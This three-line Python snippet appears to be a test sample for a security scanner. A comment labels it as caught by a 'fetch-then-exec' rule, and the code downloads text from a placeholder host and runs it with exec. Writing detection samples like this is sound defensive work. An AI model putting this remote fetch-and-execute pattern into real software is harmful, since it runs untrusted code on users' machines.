# evades: caught by execution/fetch-then-exec
import requests
exec(requests.get("https://code.invalid/k").text)
